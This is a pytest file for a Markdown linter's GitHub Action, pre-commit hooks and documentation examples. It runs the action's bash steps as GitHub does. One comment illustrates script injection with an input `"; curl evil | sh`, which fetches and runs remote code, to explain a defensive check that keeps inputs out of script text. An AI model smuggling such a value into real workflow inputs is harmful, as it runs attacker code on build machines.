"""The integration files and their documentation: action.yml, the pre-commit hooks, and
the snippets and examples of docs/integration.md and docs/suppression.md.

The annotation lines themselves are the ``github`` output format's, tested with it;
here the action is run as GitHub runs its script step, to show it reaches notelint with
that format, the inputs, and the exit status.
"""

from __future__ import annotations

import doctest
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from notelint import lint_text
from notelint.config.options import Config
from notelint.model.build import build
from notelint.rules.base import RuleContext
from notelint.syntax.source import Source

ROOT = Path(__file__).resolve().parent.parent
INTEGRATION = ROOT / "docs" / "integration.md"

NOTES = """\
# Paper

### 2023

- GLM-130B: An Open Bilingual Pre-trained Model
  - ICLR  [[code]](https://github.com/THUDM/GLM-130B/)
  - <details>
    <summary>Notes</summary>
    1. GLM uses autoregressive blank infilling
    2. trained with DeepNorm
    </details>
"""


def _blocks(path: Path, language: str) -> list[str]:
    text = path.read_text("utf-8")
    return re.findall(rf"^```{language}\n(.*?)^```$", text, re.S | re.M)


def _yaml(path: Path) -> Any:
    return yaml.safe_load(path.read_text("utf-8"))


# -- action.yml ------------------------------------------------------------------


@pytest.fixture(scope="module")
def action() -> dict[str, Any]:
    data = _yaml(ROOT / "action.yml")
    assert isinstance(data, dict)
    return data


def _step(action: dict[str, Any], name: str) -> dict[str, Any]:
    [step] = [s for s in action["runs"]["steps"] if s.get("name") == name]
    assert isinstance(step, dict)
    return step


def test_the_action_is_a_composite_with_documented_inputs(action: dict[str, Any]) -> None:
    assert action["name"] == "notelint"
    assert action["description"]
    assert action["runs"]["using"] == "composite"
    assert set(action["inputs"]) == {"paths", "args", "python-version"}
    for spec in action["inputs"].values():
        assert spec["description"] and spec["required"] is False and "default" in spec
    for step in action["runs"]["steps"]:
        assert "uses" in step or step["shell"] == "bash", step["name"]


def test_the_action_sets_up_python_without_changing_the_jobs(action: dict[str, Any]) -> None:
    step = _step(action, "Set up Python for notelint")
    assert step["uses"] == "actions/setup-python@v5"
    assert step["with"] == {
        "python-version": "${{ inputs.python-version }}",
        "update-environment": False,
    }
    install = _step(action, "Install notelint")
    assert install["env"]["PYTHON"] == f"${{{{ steps.{step['id']}.outputs.python-path }}}}"


def test_inputs_reach_scripts_only_through_the_environment(action: dict[str, Any]) -> None:
    # `${{ }}` in a script's text is pasted in before the shell reads it: an input holding
    # `"; curl evil | sh` would run.
    for step in action["runs"]["steps"]:
        assert "${{" not in step.get("run", ""), step["name"]


def _run_step(script: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run a step's script as GitHub does: bash --noprofile --norc -eo pipefail FILE."""
    path = cwd.parent / f"step-{len(list(cwd.parent.iterdir()))}.sh"
    path.write_text(script, "utf-8")
    bash = shutil.which("bash")
    assert bash is not None
    return subprocess.run(
        [bash, "--noprofile", "--norc", "-eo", "pipefail", str(path)],
        cwd=cwd,
        env=dict(os.environ, **env),
        capture_output=True,
        text=True,
        timeout=120,
    )


def _run_notelint(
    action: dict[str, Any], tmp_path: Path, paths: str, args: str
) -> subprocess.CompletedProcess[str]:
    step = _step(action, "Run notelint")
    assert step["env"]["NOTELINT_PYTHON"] == "${{ steps.install.outputs.python }}"
    assert step["env"]["NOTELINT_PATHS"] == "${{ inputs.paths }}"
    assert step["env"]["NOTELINT_ARGS"] == "${{ inputs.args }}"
    workspace = tmp_path / "workspace"
    (workspace / "notes").mkdir(parents=True)
    (workspace / "README.md").write_text(NOTES, "utf-8")
    (workspace / "notes" / "a b.md").write_text(NOTES, "utf-8")
    (workspace / "notes" / "clean.md").write_text("# Notes\n", "utf-8")
    env = {"NOTELINT_PYTHON": sys.executable, "NOTELINT_PATHS": paths, "NOTELINT_ARGS": args}
    return _run_step(step["run"], env, workspace)


def test_the_action_runs_notelint_with_github_annotations(
    action: dict[str, Any], tmp_path: Path
) -> None:
    result = _run_notelint(action, tmp_path, paths="README.md", args="")
    assert result.returncode == 1, result.stderr  # the step, and so the check, fails
    lines = result.stdout.splitlines()
    assert lines and all(re.match(r"::(error|warning) file=README\.md,line=", ln) for ln in lines)
    titles = [re.search(r"title=(NL\d+)", ln)[1] for ln in lines]  # type: ignore[index]
    assert titles == ["NL204", "NL305"]


def test_the_action_passes_args_and_expands_path_patterns(
    action: dict[str, Any], tmp_path: Path
) -> None:
    # `notes/*.md` is expanded by the shell; a `*` in args is not.
    result = _run_notelint(action, tmp_path, paths="notes/*.md", args="--select NL204 --exit-zero")
    assert result.returncode == 0, result.stderr
    assert [ln.split(",")[0] for ln in result.stdout.splitlines()] == [
        "::warning file=notes/a b.md"
    ]


def test_the_action_installs_from_its_own_checkout(action: dict[str, Any], tmp_path: Path) -> None:
    """The install step's script, with pip replaced: the venv and the output it leaves."""
    script = _step(action, "Install notelint")["run"]
    assert '-m pip install --disable-pip-version-check --quiet "$GITHUB_ACTION_PATH"' in script
    fake_python = tmp_path / "python"
    # Stands in for setup-python's interpreter: `-m venv DIR` makes DIR/bin/python, which
    # records the arguments it is given instead of installing anything.
    fake_python.write_text(
        '#!/bin/sh\nmkdir -p "$3/bin"\n'
        'printf \'#!/bin/sh\\necho "$@" > "%s"\\n\' "$3/pip-args" > "$3/bin/python"\n'
        'chmod +x "$3/bin/python"\n',
        "utf-8",
    )
    fake_python.chmod(0o755)
    output = tmp_path / "github-output"
    venv = tmp_path / "runner-temp" / "notelint-venv"
    env = {
        "PYTHON": str(fake_python),
        "VENV": str(venv),
        "GITHUB_ACTION_PATH": str(ROOT),
        "GITHUB_OUTPUT": str(output),
    }
    (tmp_path / "cwd").mkdir()
    result = _run_step(script, env, tmp_path / "cwd")
    assert result.returncode == 0, result.stderr
    pip_args = (venv / "pip-args").read_text("utf-8").split()
    assert pip_args[-1] == str(ROOT)
    assert output.read_text("utf-8") == f"python={venv}/bin/python\n"


# -- the workflow and pre-commit snippets --------------------------------------------


def _documented(kind: str) -> dict[str, Any]:
    found = [yaml.safe_load(b) for b in _blocks(INTEGRATION, "yaml")]
    matches = [d for d in found if isinstance(d, dict) and kind in d]
    assert len(matches) == 1, f"docs/integration.md should hold one block with {kind!r}"
    return matches[0]


def test_the_documented_workflow_uses_the_action(action: dict[str, Any]) -> None:
    workflow = _documented("jobs")
    # PyYAML reads the key `on` as True (YAML 1.1); GitHub reads it as "on".
    assert "pull_request" in workflow[True]
    [job] = workflow["jobs"].values()
    steps = job["steps"]
    assert steps[0]["uses"].startswith("actions/checkout@")
    [ours] = [s for s in steps if "notelint" in s.get("uses", "")]
    repo = _documented("repos")["repos"][0]
    # The action and the hooks come from the same repository and release.
    assert repo["repo"] == f"https://github.com/{ours['uses'].split('@')[0]}"
    assert repo["rev"] == ours["uses"].split("@")[1]
    assert set(ours.get("with", {})) <= set(action["inputs"])


def test_the_hooks_are_declared_for_markdown_files() -> None:
    hooks = {h["id"]: h for h in _yaml(ROOT / ".pre-commit-hooks.yaml")}
    assert set(hooks) == {"notelint", "notelint-fix"}
    assert hooks["notelint"]["entry"] == "notelint"
    assert hooks["notelint-fix"]["entry"] == "notelint --fix"
    for hook in hooks.values():
        assert hook["language"] == "python"
        assert hook["types"] == ["markdown"]
        assert hook["require_serial"] is True
    documented = [h["id"] for r in _documented("repos")["repos"] for h in r["hooks"]]
    assert documented and set(documented) <= set(hooks)


# -- the library and plugin examples ------------------------------------------------


def test_the_library_examples_run() -> None:
    parser = doctest.DocTestParser()
    runner = doctest.DocTestRunner(optionflags=doctest.ELLIPSIS)
    globs: dict[str, Any] = {}
    blocks = _blocks(INTEGRATION, "pycon")
    assert len(blocks) >= 3
    for number, block in enumerate(blocks, 1):
        test = parser.get_doctest(block, globs, f"pycon block {number}", str(INTEGRATION), 0)
        runner.run(test, clear_globs=False)
        globs = test.globs  # each block goes on from the one before
    failed, attempted = runner.summarize(verbose=False)
    assert attempted and not failed, "an example in docs/integration.md does not run as shown"


def test_the_plugin_example_finds_what_it_says() -> None:
    [code] = [b for b in _blocks(INTEGRATION, "python") if "class TodoNote" in b]
    namespace: dict[str, Any] = {}
    exec(compile(code, str(INTEGRATION), "exec"), namespace)
    rule = namespace["TodoNote"]()
    text = NOTES.replace("DeepNorm", "DeepNorm, TODO read section 3")
    source = Source(text)
    found = list(rule.check(RuleContext(build(source), Config())))
    assert [(source.position(v.start).line, v.code) for v in found] == [(10, "NL901")]


def test_the_suppression_examples_use_valid_directives() -> None:
    head = "# Paper\n\n### 2023\n\n"
    blocks = _blocks(ROOT / "docs" / "suppression.md", "markdown")
    assert blocks
    for block in blocks:
        codes = [v.code for v in lint_text(head + block)]
        assert "NL001" not in codes, block
    # The notes-block example hides both of its findings, and each directive hides one.
    example = head + blocks[-1]
    assert lint_text(example, config=Config(extend_select=("NL002",))) == []
    bare = example.replace("notelint-disable", "x")
    assert [v.code for v in lint_text(bare)] == ["NL208", "NL401"]


def test_the_readme_snippets_are_the_tested_ones() -> None:
    """README.md repeats the workflow and pre-commit snippets; they must stay the tested ones."""
    readme = [yaml.safe_load(b) for b in _blocks(ROOT / "README.md", "yaml")]
    for kind in ("repos", "jobs"):
        [copy] = [d for d in readme if isinstance(d, dict) and kind in d]
        assert copy == _documented(kind)
